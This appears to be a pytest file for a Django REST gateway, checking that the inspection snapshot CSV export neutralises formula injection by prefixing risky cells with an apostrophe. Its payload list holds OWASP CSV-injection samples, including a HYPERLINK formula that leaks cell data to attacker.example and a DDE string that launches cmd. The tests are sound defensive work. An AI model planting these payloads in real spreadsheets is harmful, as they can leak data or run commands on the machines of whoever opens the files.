"""Every CSV the project writes opens in a spreadsheet as text: no cell runs as a formula."""

import csv
import io

import pytest

from registrations.models import ClientRole, Person
from rest_gateway.auth import SCOPE_INSPECTION
from rest_gateway.spreadsheet_csv import spreadsheet_cell
from tests.factories import make_client, make_workplace_id
from tests.operators.conftest import make_registration
from tests.operators.test_inspection import bearer

pytestmark = pytest.mark.django_db

API = "/REST/presenceRegistration/v1"

# The classic payloads (OWASP CSV injection) and what the inspector's spreadsheet must show.
PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
]


@pytest.fixture
def inspector():
    return make_client(role=ClientRole.INSPECTION)


def snapshot_rows(client, inspector, workplace):
    response = client.get(
        f"{API}/inspection/snapshot.csv", {"workplaceId": workplace}, **bearer(inspector, SCOPE_INSPECTION)
    )
    assert response.status_code == 200
    return list(csv.DictReader(io.StringIO(response.content.decode(), newline="")))


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_name_that_is_a_formula_is_written_as_text(client, inspector, payload):
    workplace = make_workplace_id()
    registration = make_registration(workplace_id=workplace)
    Person.objects.create(niss=registration.niss, given_name=payload, family_name=payload)
    [row] = snapshot_rows(client, inspector, workplace)
    for cell in (row["given_name"], row["family_name"]):
        assert cell == "'" + payload  # shown as typed, never evaluated
        assert cell[0] not in "=+-@\t\r"


def test_ordinary_cells_are_written_as_they_are(client, inspector):
    workplace = make_workplace_id()
    registration = make_registration(workplace_id=workplace, remark_mask=0)
    Person.objects.create(niss=registration.niss, given_name="Jean-Luc", family_name="D'Hondt")
    [row] = snapshot_rows(client, inspector, workplace)
    assert (row["given_name"], row["family_name"]) == ("Jean-Luc", "D'Hondt")
    assert row["registration_id"] == str(registration.pk)
    assert row["ssin"] == registration.niss


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-12, -12),
        ("-12", "-12"),
        ("-3.5", "-3.5"),
        ("-2+3", "'-2+3"),
        ("-1+1", "'-1+1"),
        ("=1", "'=1"),
        ("a=1", "a=1"),
        (None, ""),
    ],
)
def test_negative_numbers_stay_numbers_and_formulas_do_not(value, written):
    assert spreadsheet_cell(value) == written
